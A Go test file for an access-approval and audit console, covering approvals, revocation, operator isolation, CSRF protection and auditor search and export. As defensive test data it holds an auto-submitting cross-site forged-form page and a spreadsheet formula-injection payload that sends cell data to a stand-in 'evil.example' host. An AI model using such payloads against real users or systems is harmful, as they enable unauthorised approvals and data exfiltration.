package console

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/auditpipe/auditpipe/clickhouse"
	"github.com/auditpipe/auditpipe/clickhouse/clickhousetest"
	"github.com/auditpipe/auditpipe/internal/config"
	"github.com/auditpipe/auditpipe/policy"
	"github.com/auditpipe/auditpipe/policy/client"
	"github.com/auditpipe/auditpipe/schemas"
)

// TestApproverFlow: an approver signs in, approves a pending request from
// the inbox (with keystroke audit), watches the operator's commands
// arrive on the request page while the test writes them into the store,
// reads the process tree, revokes, and sees REVOKED.
func TestApproverFlow(t *testing.T) {
	h := newHarness(t)
	b := newBrowser(t)
	req := h.request(idOperator, "INFRA_UPDATE_RESTART")
	if req.LifecycleState != policy.StateApprovalWaiting {
		t.Fatalf("the request is %s, want APPROVALWAITING", req.LifecycleState)
	}
	b.signIn(h, idApprover)
	row := fmt.Sprintf(`li.request[data-id="%s"]`, req.ID)
	b.run(chromedp.WaitVisible(chromedp.CSS(row)))
	b.check("inbox")
	b.shot("inbox")
	b.run(chromedp.EmulateViewport(390, 844))
	b.check("inbox at phone width")
	b.shot("inbox-phone")
	b.run(chromedp.EmulateViewport(1200, 900))

	b.run(chromedp.SetValue(chromedp.CSS(row+` select[name="audit_type"]`), schemas.AuditCommandKeystroke),
		chromedp.Click(chromedp.CSS(row+` form.approve button`)),
		chromedp.WaitVisible(chromedp.CSS(`p.empty`))) // back in the inbox: nothing waits any more
	b.check("inbox after approving")
	got, err := h.svc.GetRequest(h.ctx, req.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.LifecycleState != policy.StateApproved || got.AuditType != schemas.AuditCommandKeystroke || got.UserID == "" {
		t.Fatalf("after approving: state %s, audit type %s, login %q; want APPROVED, %s, a login user", got.LifecycleState, got.AuditType, got.UserID, schemas.AuditCommandKeystroke)
	}

	b.run(chromedp.Navigate(h.srv.URL+Prefix+"/requests/"+req.ID), chromedp.WaitVisible(chromedp.CSS(`#trail`)))
	if s := b.text(`#state`); s != string(policy.StateApproved) {
		t.Fatalf("the page shows state %q, want APPROVED", s)
	}
	if n := b.count(`#trail li`); n != 0 {
		t.Fatalf("the trail has %d events before any was written", n)
	}
	b.check("request, approved")
	// The operator works: the test writes their events while the page is
	// open; the page is not reloaded.
	base := time.Now().UTC().Truncate(time.Second)
	evs := events(got, base, []string{"ls", "-l", "/var/log"}, []string{"sudo", "systemctl", "restart", "cellsrv"}, []string{"/usr/bin/systemctl", "restart", "cellsrv"})
	clickhousetest.InsertEvents(t, h.store, evs[:2], 0)
	b.run(chromedp.WaitVisible(chromedp.Search(`//ol[@id="trail"]/li[contains(., "ls -l /var/log")]`)))
	clickhousetest.InsertEvents(t, h.store, evs[2:], 0)
	b.run(chromedp.WaitVisible(chromedp.Search(`//ol[@id="trail"]/li[contains(., "sudo systemctl restart cellsrv")]`)))
	b.run(chromedp.WaitVisible(chromedp.Search(`//ol[@id="trail"]/li[contains(., "/usr/bin/systemctl restart cellsrv")]`)))
	if n := b.count(`#trail li`); n != 3 {
		t.Errorf("the trail shows %d events, want the 3 commands once each", n)
	}
	b.check("request, live trail")
	b.shot("request-live")

	b.run(chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS(`#tree`)))
	tree := b.text(`#tree`)
	for _, want := range []string{"ls -l /var/log", "sudo systemctl restart cellsrv [sudo: " + got.UserID + " → root]", "   └─ ", "/usr/bin/systemctl restart cellsrv (/usr/bin/systemctl in /root, uid " + got.UserID + " euid root", "login user " + got.UserID} {
		if !strings.Contains(tree, want) {
			t.Errorf("the process tree lacks %q:\n%s", want, tree)
		}
	}
	b.check("request, process tree")

	b.run(chromedp.Click(chromedp.CSS(`#revoke-confirm`)), chromedp.SendKeys(chromedp.CSS(`#revoke-comment`), "maintenance done"),
		chromedp.Click(chromedp.CSS(`form.revoke button`)),
		chromedp.WaitVisible(chromedp.Search(`//dd[@id="state"][normalize-space(.)="REVOKED"]`)))
	if s := h.state(req.ID); s != policy.StateRevoked {
		t.Fatalf("after revoking, the store says %s", s)
	}
	if n := b.count(`form.revoke`); n != 0 {
		t.Errorf("a revoked request still offers revoke")
	}
	b.check("request, revoked")
	b.shot("request-revoked")
}

// TestRevokeNeedsConfirmation: the revoke form without its confirmation
// changes nothing.
func TestRevokeNeedsConfirmation(t *testing.T) {
	h := newHarness(t)
	req := h.request(idOperator, "INFRA_DIAG") // pre-approved
	c, csrf := h.client(idApprover)
	resp, err := c.PostForm(h.srv.URL+Prefix+"/requests/"+req.ID+"/revoke", url.Values{"csrf": {csrf}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest || h.state(req.ID) != policy.StatePreApproved {
		t.Fatalf("revoke without confirm: %s, state %s; want 400 and PREAPPROVED", resp.Status, h.state(req.ID))
	}
}

// TestOperatorSeesOnlyOwn: an operator sees their own requests, never
// another operator's (404, as the API answers), and no approve button.
func TestOperatorSeesOnlyOwn(t *testing.T) {
	h := newHarness(t)
	b := newBrowser(t)
	own := h.request(idOperator, "INFRA_UPDATE_RESTART")
	other := h.request(idOperator2, "INFRA_UPDATE_RESTART")
	b.signIn(h, idOperator)
	b.run(chromedp.WaitVisible(chromedp.CSS(fmt.Sprintf(`li.request[data-id="%s"]`, own.ID))))
	if n := b.count(fmt.Sprintf(`li.request[data-id="%s"]`, other.ID)); n != 0 {
		t.Errorf("the operator's inbox lists another operator's request")
	}
	if n := b.count(`form[action$="/approve"], form[action$="/reject"], form[action$="/revoke"]`); n != 0 {
		t.Errorf("the operator's inbox has %d approve/reject/revoke forms", n)
	}
	b.check("operator inbox")
	b.run(chromedp.Navigate(h.srv.URL+Prefix+"/requests/"+own.ID), chromedp.WaitVisible(chromedp.CSS(`#state`)))
	if n := b.count(`form[action$="/approve"], form[action$="/reject"], form[action$="/revoke"]`); n != 0 {
		t.Errorf("the operator's own request page has %d approve/reject/revoke forms", n)
	}
	b.check("operator's own request")
	b.shot("request-operator")

	b.run(chromedp.Navigate(h.srv.URL+Prefix+"/requests/"+other.ID), chromedp.WaitVisible(chromedp.CSS(`.error-message`)))
	if msg := b.text(`.error-message`); !strings.Contains(msg, "does not exist or you are not authorized") {
		t.Errorf("another operator's request shows %q", msg)
	}
	if strings.Contains(b.text(`main`), other.Reason) {
		t.Errorf("the error page shows the other request's reason")
	}
	// The one error the browser reports is the 404 itself.
	for _, e := range b.errors() {
		if !strings.Contains(e, "404") {
			t.Errorf("another operator's request: the browser reported %s", e)
		}
	}
	b.check("not found")
	// And through a form, straight at the action: refused, nothing moves.
	c, csrf := h.client(idOperator)
	for _, action := range []string{"approve", "reject", "revoke", "answer"} {
		resp, err := c.PostForm(h.srv.URL+Prefix+"/requests/"+other.ID+"/"+action, url.Values{"csrf": {csrf}, "comment": {"x"}, "confirm": {"yes"}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden && resp.StatusCode != http.StatusNotFound {
			t.Errorf("operator %s on another's request: %s, want 403 or 404", action, resp.Status)
		}
	}
	if s := h.state(other.ID); s != policy.StateApprovalWaiting {
		t.Errorf("the other request moved to %s", s)
	}
}

// TestCrossSiteFormRefused: a form another site posts is refused and
// changes nothing, whether the browser sends the cookie (it does not:
// SameSite=Strict) or a client forges every header but the CSRF token.
func TestCrossSiteFormRefused(t *testing.T) {
	h := newHarness(t)
	req := h.request(idOperator, "INFRA_UPDATE_RESTART")
	target := h.srv.URL + Prefix + "/requests/" + req.ID + "/approve"

	c, csrf := h.client(idApprover)
	tests := []struct {
		name    string
		form    url.Values
		headers map[string]string
	}{
		{name: "no token", form: url.Values{}},
		{name: "wrong token", form: url.Values{"csrf": {"AAAA" + csrf[4:]}}},
		{name: "other origin", form: url.Values{"csrf": {csrf}}, headers: map[string]string{"Origin": "http://evil.example"}},
		{name: "cross-site fetch", form: url.Values{"csrf": {csrf}}, headers: map[string]string{"Sec-Fetch-Site": "cross-site"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := http.NewRequest(http.MethodPost, target, strings.NewReader(tt.form.Encode()))
			if err != nil {
				t.Fatal(err)
			}
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			for k, v := range tt.headers {
				r.Header.Set(k, v)
			}
			resp, err := c.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusForbidden {
				t.Errorf("%s: %s, want 403", tt.name, resp.Status)
			}
			if s := h.state(req.ID); s != policy.StateApprovalWaiting {
				t.Fatalf("%s: the request moved to %s", tt.name, s)
			}
		})
	}

	// In the browser: signed in to the console, the approver visits a
	// page of another site (localhost is another site than 127.0.0.1)
	// that posts the approve form.
	b := newBrowser(t)
	b.signIn(h, idApprover)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!doctype html><title>prize</title><form id="f" method="post" action="%s"><input name="csrf" value="guess"></form><script>document.getElementById("f").submit()</script>`, target)
	}))
	defer evil.Close()
	evilURL := strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)
	b.run(chromedp.Navigate(evilURL), chromedp.WaitVisible(chromedp.CSS(`.error-message`)))
	if msg := b.text(`.error-message`); !strings.Contains(msg, "not signed in") {
		t.Errorf("the forged post got %q, want the console's refusal without a session (SameSite=Strict)", msg)
	}
	b.errors()
	if s := h.state(req.ID); s != policy.StateApprovalWaiting {
		t.Fatalf("the forged post moved the request to %s", s)
	}
}

// TestConsoleAndCLIRequestsAreTheSame: a request made in the console's
// form and one made with the CLI (the built auditpipe binary, `auditpipe
// request create`) are the same thing in the API, in the store (the
// request and its history) and in ClickHouse (their lifecycle events,
// carried by the outbox relay, Kafka and the indexer as in the
// all-in-one), field by field but for ids and times. Then one is approved
// in the console's inbox and the other with `auditpipe request approve`,
// with the same audit type and shorter duration, and they are the same
// again: the approved requests, their grants (login user, hosts,
// privileges, audit type, length), their histories and their lifecycle
// events, normalising only the ids (request, login user) and the times.
func TestConsoleAndCLIRequestsAreTheSame(t *testing.T) {
	h := newHarness(t)
	relay := h.pipeline()
	b := newBrowser(t)
	b.signIn(h, idOperator)
	b.run(chromedp.Navigate(h.srv.URL+Prefix+"/requests/new?resource="+url.QueryEscape(cellID)),
		chromedp.WaitVisible(chromedp.CSS(`#act-INFRA_DIAG`)))
	if s := b.text(`label[for="act-INFRA_DIAG"]`); !strings.Contains(s, "pre-approved") {
		t.Errorf("INFRA_DIAG is not shown pre-approved: %q", s)
	}
	if s := b.text(`label[for="act-INFRA_UPDATE_RESTART"]`); !strings.Contains(s, "needs approval") {
		t.Errorf("INFRA_UPDATE_RESTART is not shown as needing approval: %q", s)
	}
	b.check("new request")
	b.shot("new-request")
	const reason = "Cell disk latency alerts on cell01 (SR 3-1234567890)"
	b.run(chromedp.Click(chromedp.CSS(`#act-INFRA_UPDATE_RESTART`)), chromedp.SendKeys(chromedp.CSS(`#reason`), reason),
		chromedp.SetValue(chromedp.CSS(`#severity`), "S2"), chromedp.SendKeys(chromedp.CSS(`#duration`), "8"),
		chromedp.Submit(chromedp.CSS(`#reason`)), chromedp.WaitVisible(chromedp.CSS(`#state`)))
	loc := value(b, chromedp.Location())
	webID, err := url.PathUnescape(loc[strings.LastIndex(loc, "/")+1:])
	if err != nil {
		t.Fatal(err)
	}
	b.check("request made in the console")

	var made policy.AccessRequest
	out := h.cli(idOperator, "request", "create", "--resource", cellID, "--action", "INFRA_UPDATE_RESTART", "--reason", reason,
		"--severity", "S2", "--duration", "8", "--output", "json")
	if err := json.Unmarshal(out, &made); err != nil || made.ID == "" || made.ID == webID {
		t.Fatalf("auditpipe request create printed %s (%v)", out, err)
	}
	h.sameRequests(relay, "created", webID, made.ID)

	// Approved: in the approver's inbox for one (keystroke audit, 4 of
	// the 8 hours), with the CLI for the other, alike.
	const approvedHours = 4
	ab := newBrowser(t)
	ab.signIn(h, idApprover)
	row := fmt.Sprintf(`li.request[data-id="%s"]`, webID)
	ab.run(chromedp.WaitVisible(chromedp.CSS(row)),
		chromedp.SetValue(chromedp.CSS(row+` select[name="audit_type"]`), schemas.AuditCommandKeystroke),
		chromedp.SendKeys(chromedp.CSS(row+` input[name="duration"]`), fmt.Sprint(approvedHours)),
		chromedp.Click(chromedp.CSS(row+` form.approve button`)),
		chromedp.WaitNotPresent(chromedp.CSS(row)), // approved: not waiting on the approver any more
		chromedp.WaitVisible(chromedp.CSS(fmt.Sprintf(`li.request[data-id="%s"]`, made.ID))))
	ab.check("inbox after approving in the console")
	out = h.cli(idApprover, "request", "approve", made.ID, "--audit-type", schemas.AuditCommandKeystroke,
		"--duration", fmt.Sprint(approvedHours), "--output", "json")
	var approved policy.AccessRequest
	if err := json.Unmarshal(out, &approved); err != nil || approved.ID != made.ID {
		t.Fatalf("auditpipe request approve printed %s (%v)", out, err)
	}
	// Not the same by both being unchanged: the console's approval took.
	web, err := h.svc.GetRequest(h.ctx, webID)
	if err != nil {
		t.Fatal(err)
	}
	if web.LifecycleState != policy.StateApproved || web.AuditType != schemas.AuditCommandKeystroke || web.UserID == "" ||
		len(web.ApproverDetails) != 1 || web.ApproverDetails[0].ApproverID != idApprover.Name || web.ApproverDetails[0].DurationHours != approvedHours {
		t.Fatalf("the console's approval: state %s, audit type %s, login %q, approvals %+v; want APPROVED, %s, a login user, %s's of %d hours",
			web.LifecycleState, web.AuditType, web.UserID, web.ApproverDetails, schemas.AuditCommandKeystroke, idApprover.Name, approvedHours)
	}
	h.sameRequests(relay, "approved", webID, made.ID)
}

// sameRequests checks that two requests made alike, web (in the console)
// and cli, are the same thing but for their ids and times: as the API
// and the store return them, their histories (store and API), their
// grants once they have a login user (store and API), and their
// lifecycle events in ClickHouse (after flushing the outbox relay).
func (h *harness) sameRequests(relay *policy.Relay, when, web, cli string) {
	t := h.t
	t.Helper()
	operator := &client.Client{BaseURL: h.srv.URL, Token: config.Secret(h.tokens[idOperator.Name])}
	auditor := &client.Client{BaseURL: h.srv.URL, Token: config.Secret(h.tokens[idAuditor.Name])}
	same := func(what string, a, b any) {
		t.Helper()
		aj, _ := json.Marshal(a)
		bj, _ := json.Marshal(b)
		if string(aj) != string(bj) {
			t.Errorf("%s, %s: the console's\n%s\ndiffers from the CLI's\n%s", when, what, aj, bj)
		}
	}
	fromAPI := func(id string) policy.AccessRequest {
		r, err := operator.GetRequest(h.ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	fromStore := func(id string) policy.AccessRequest {
		r, err := h.svc.GetRequest(h.ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	same("request in the API", comparable(t, fromAPI(web)), comparable(t, fromAPI(cli)))
	rw, rc := fromStore(web), fromStore(cli)
	same("request in the store", comparable(t, rw), comparable(t, rc))

	hw, err := h.svc.History(h.ctx, policy.ObjectAccessRequest, web)
	if err != nil {
		t.Fatal(err)
	}
	hc, err := h.svc.History(h.ctx, policy.ObjectAccessRequest, cli)
	if err != nil {
		t.Fatal(err)
	}
	if len(hw) == 0 {
		t.Fatalf("%s: no history", when)
	}
	history := func(es []policy.HistoryEntry) []string {
		var out []string
		for _, e := range es {
			out = append(out, strings.Join([]string{e.ObjectType, e.Actor, e.Action, e.From, e.To, e.Comment}, " | "))
		}
		return out
	}
	same("history in the store", history(hw), history(hc))
	aw, err := operator.History(h.ctx, web)
	if err != nil {
		t.Fatal(err)
	}
	ac, err := operator.History(h.ctx, cli)
	if err != nil {
		t.Fatal(err)
	}
	same("history in the API", history(aw), history(ac))
	same("history in the API and the store (the console's)", history(aw), history(hw))

	aliases := func(r policy.AccessRequest) []string { return []string{r.ID, "ID"} }
	if (rw.UserID == "") != (rc.UserID == "") {
		t.Fatalf("%s: login user %q (console) and %q (CLI)", when, rw.UserID, rc.UserID)
	}
	if rw.UserID != "" {
		aliases = func(r policy.AccessRequest) []string { return []string{r.ID, "ID", r.UserID, "LOGIN"} }
		for name, get := range map[string]func(string) (policy.Grant, error){
			"store": func(l string) (policy.Grant, error) { return h.svc.GetGrant(h.ctx, l) },
			"API":   func(l string) (policy.Grant, error) { return auditor.Grant(h.ctx, l) },
		} {
			gw, err := get(rw.UserID)
			if err != nil {
				t.Fatalf("%s: the console's request's grant in the %s: %v", when, name, err)
			}
			gc, err := get(rc.UserID)
			if err != nil {
				t.Fatalf("%s: the CLI's request's grant in the %s: %v", when, name, err)
			}
			if gw.RequestID != web || gc.RequestID != cli {
				t.Errorf("%s: grants in the %s of requests %s and %s, want %s and %s", when, name, gw.RequestID, gc.RequestID, web, cli)
			}
			same("grant in the "+name, comparableGrant(t, gw), comparableGrant(t, gc))
		}
	}

	// ClickHouse: the lifecycle events of each, as the indexer stored them.
	ctx, cancel := context.WithTimeout(h.ctx, actionTimeout)
	defer cancel()
	if err := relay.Flush(ctx); err != nil {
		t.Fatal(err)
	}
	lw, lc := h.lifecycle(web, len(hw), aliases(rw)...), h.lifecycle(cli, len(hc), aliases(rc)...)
	same("lifecycle events in ClickHouse", lw, lc)
}

// comparableGrant is a grant without what differs between two grants of
// requests made alike: the login user, the request and the times, of
// which the length stays.
func comparableGrant(t *testing.T, g policy.Grant) map[string]any {
	t.Helper()
	if g.Start.IsZero() || !g.Expires.After(g.Start) {
		t.Errorf("grant %s: start %v, expires %v", g.LoginID, g.Start, g.Expires)
	}
	length := g.Expires.Sub(g.Start)
	m := toMap(t, g)
	for _, k := range []string{"loginid", "req_auth_id", "start", "expires"} {
		delete(m, k)
	}
	m["length"] = length.String()
	return m
}

// lifecycle waits until ClickHouse holds n lifecycle events of object id
// and returns them in order, each as JSON of every column and of the
// stored payload but for what differs between two requests made alike
// (event id, time, content hash, Kafka offset; aliases are pairs of an
// id and what it is written as, the object's id "ID" by default).
func (h *harness) lifecycle(id string, n int, aliases ...string) []string {
	h.t.Helper()
	q := fmt.Sprintf("SELECT kind, object_type, object_id, resource_id, compartment_id, state_from, state_to, actor, toJSONString(details), payload "+
		"FROM lifecycle_events WHERE object_id = %s ORDER BY time, kafka_offset", clickhouse.QuoteString(id))
	deadline := time.Now().Add(actionTimeout)
	for {
		res, err := h.store.Query(h.ctx, q)
		if err != nil {
			h.t.Fatal(err)
		}
		if len(res.Rows) >= n {
			if len(res.Rows) > n {
				h.t.Fatalf("%d lifecycle events of %s in ClickHouse, want %d (one per history entry)", len(res.Rows), id, n)
			}
			out := make([]string, len(res.Rows))
			for i, row := range res.Rows {
				m := map[string]any{}
				for j, col := range res.Columns[:len(res.Columns)-2] {
					m[col] = row[j]
				}
				var details map[string]string
				var payload schemas.Lifecycle
				if err := json.Unmarshal([]byte(fmt.Sprint(row[len(row)-2])), &details); err != nil {
					h.t.Fatalf("details of a lifecycle event of %s: %v", id, err)
				}
				if err := json.Unmarshal([]byte(fmt.Sprint(row[len(row)-1])), &payload); err != nil || payload.EventID == "" || payload.Time.IsZero() {
					h.t.Fatalf("payload of a lifecycle event of %s: %+v, %v", id, payload, err)
				}
				if !maps.Equal(details, payload.Details) {
					h.t.Errorf("lifecycle event of %s: the details column %v is not the payload's %v", id, details, payload.Details)
				}
				// Times in the details (time_of_expiry) differ as the
				// requests' creation times do.
				for k, v := range details {
					if strings.HasPrefix(k, "time_") {
						if _, err := time.Parse(time.RFC3339, v); err != nil {
							h.t.Errorf("lifecycle event of %s: %s = %q is not a time", id, k, v)
						}
						delete(details, k)
					}
				}
				payload.EventID, payload.Time, payload.Details = "", time.Time{}, nil
				m["details"], m["payload"] = details, payload
				b, err := json.Marshal(m)
				if err != nil {
					h.t.Fatal(err)
				}
				if len(aliases) == 0 {
					aliases = []string{id, "ID"}
				}
				out[i] = strings.NewReplacer(aliases...).Replace(string(b))
			}
			return out
		}
		if time.Now().After(deadline) {
			h.t.Fatalf("%d lifecycle events of %s in ClickHouse after %s, want %d", len(res.Rows), id, actionTimeout, n)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// comparable is a request without what differs between two requests
// made alike: the id, the login user and the times (every time_ field, the
// approvals' too).
func comparable(t *testing.T, r policy.AccessRequest) map[string]any {
	t.Helper()
	m := toMap(t, r)
	for _, k := range []string{"id", "user_id"} {
		delete(m, k)
	}
	dropTimes(m)
	return m
}

// dropTimes deletes every time_ key of m and of the objects in it.
func dropTimes(v any) {
	switch v := v.(type) {
	case map[string]any:
		for k, x := range v {
			if strings.HasPrefix(k, "time_") {
				delete(v, k)
				continue
			}
			dropTimes(x)
		}
	case []any:
		for _, x := range v {
			dropTimes(x)
		}
	}
}

// toMap is v as its JSON object.
func toMap(t *testing.T, v any) map[string]any {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	return m
}

// TestChecksCatchProblems: the page checks are not vacuous: axe reports
// an unlabelled field and poor contrast, and a script error reaches the
// error list.
func TestChecksCatchProblems(t *testing.T) {
	b := newBrowser(t)
	bad := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><html><head><title>bad</title></head><body><main><p style="color:#ccc;background:#fff">faint</p><input name="x"><script>undefinedFunction()</script></main></body></html>`)
	}))
	defer bad.Close()
	b.run(chromedp.Navigate(bad.URL), chromedp.WaitVisible(chromedp.CSS(`input`)))
	v := strings.Join(b.axe(), "\n")
	for _, want := range []string{"label", "color-contrast"} {
		if !strings.Contains(v, want) {
			t.Errorf("axe did not report %s on a page that has it; it reported:\n%s", want, v)
		}
	}
	b.run(chromedp.WaitVisible(chromedp.CSS(`main`))) // the console messages arrive beside the page
	deadline := time.Now().Add(actionTimeout)
	for {
		b.mu.Lock()
		n := len(b.errs)
		b.mu.Unlock()
		if n > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the script error never reached the error list")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if e := strings.Join(b.errors(), "\n"); !strings.Contains(e, "undefinedFunction") {
		t.Errorf("errors: %s, want the ReferenceError", e)
	}
}

// TestAuditorSearch: an auditor finds events by request, operator, host
// and text, pages through them, and exports them as JSON lines and CSV;
// the controls page shows the seed's control and assignment.
func TestAuditorSearch(t *testing.T) {
	h := newHarness(t)
	req := h.request(idOperator, "INFRA_DIAG") // pre-approved: granted at once
	other := h.request(idOperator2, "INFRA_DIAG")
	base := time.Now().UTC().Add(-time.Hour).Truncate(time.Second)
	cmds := [][]string{{"ls", "/"}, {"cat", "/etc/hosts"}}
	for i := range 60 {
		cmds = append(cmds, []string{"echo", fmt.Sprint("line", i)})
	}
	clickhousetest.InsertEvents(t, h.store, events(req, base, cmds...), 0)
	clickhousetest.InsertEvents(t, h.store, events(other, base.Add(10*time.Minute), []string{"uptime"},
		[]string{`=HYPERLINK("https://evil.example/?"&A2,"x")`, "-x"}), 0) // argv[0] is the operator's choice

	c, _ := h.client(idAuditor)
	tests := []struct {
		name  string
		query url.Values
		want  []string // substrings of the page
		not   []string
	}{
		{name: "by text", query: url.Values{"text": {"/etc/hosts"}}, want: []string{"cat /etc/hosts"}, not: []string{"uptime", "ls /"}},
		{name: "by operator", query: url.Values{"operator": {idOperator2.Name}}, want: []string{"uptime"}, not: []string{"cat /etc/hosts"}},
		{name: "by request", query: url.Values{"request": {other.ID}}, want: []string{"uptime"}, not: []string{"cat /etc/hosts"}},
		{name: "by host, no match", query: url.Values{"host": {"elsewhere"}}, want: []string{"No events."}},
		{name: "first page", query: url.Values{"request": {req.ID}}, want: []string{"line59", "Next page"}, not: []string{"Previous page", "ls /"}},
		{name: "second page", query: url.Values{"request": {req.ID}, "page": {"1"}}, want: []string{"ls /", "Previous page"}, not: []string{"Next page", "line59"}},
		{name: "time range", query: url.Values{"from": {base.Add(5 * time.Minute).Format("2006-01-02T15:04")}}, want: []string{"uptime"}, not: []string{"cat /etc/hosts"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body := h.get(c, Prefix+"/search?"+tt.query.Encode(), http.StatusOK)
			for _, w := range tt.want {
				if !strings.Contains(body, w) {
					t.Errorf("the page lacks %q", w)
				}
			}
			for _, n := range tt.not {
				if strings.Contains(body, n) {
					t.Errorf("the page has %q", n)
				}
			}
		})
	}
	jl := h.get(c, Prefix+"/search?format=jsonl&request="+url.QueryEscape(req.ID), http.StatusOK)
	lines := strings.Split(strings.TrimSpace(jl), "\n")
	if len(lines) != 63 { // the login and 62 commands
		t.Fatalf("JSON lines export: %d lines, want 63", len(lines))
	}
	var first searchRow
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil || first.ReqAuthID != req.ID || first.RawData == "" {
		t.Errorf("JSON lines export: first line %s (%v)", lines[0], err)
	}
	csvBody := h.get(c, Prefix+"/search?format=csv&text=hosts", http.StatusOK)
	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
	if err != nil || len(rows) != 2 || rows[0][0] != "ts" || rows[1][6] != "cat /etc/hosts" || !strings.HasSuffix(rows[1][8], " \n") {
		t.Errorf("CSV export (%v):\n%s", err, csvBody)
	}
	// A cell a spreadsheet would run as a formula is quoted (formula
	// injection through argv[0]).
	csvBody = h.get(c, Prefix+"/search?format=csv&text=HYPERLINK", http.StatusOK)
	rows, err = csv.NewReader(strings.NewReader(csvBody)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][6] != `'=HYPERLINK("https://evil.example/?"&A2,"x") -x` {
		t.Errorf("CSV export of a formula (%v):\n%s", err, csvBody)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %q starts a formula", cell)
			}
		}
	}
	h.get(c, Prefix+"/search?format=xml", http.StatusBadRequest)
	h.get(c, Prefix+"/search?from=yesterday", http.StatusBadRequest)
	// Operators do not search the trail.
	oc, _ := h.client(idOperator)
	h.get(oc, Prefix+"/search?text=hosts", http.StatusForbidden)

	b := newBrowser(t)
	b.signIn(h, idAuditor)
	b.run(chromedp.Navigate(h.srv.URL+Prefix+"/search?text=etc"), chromedp.WaitVisible(chromedp.CSS(`ol.events li`)))
	b.check("search")
	b.shot("search")
	b.run(chromedp.Navigate(h.srv.URL+Prefix+"/controls"), chromedp.WaitVisible(chromedp.Search(`//td[normalize-space(.)="cell_maint"]`)))
	b.check("controls")
	b.shot("controls")
}
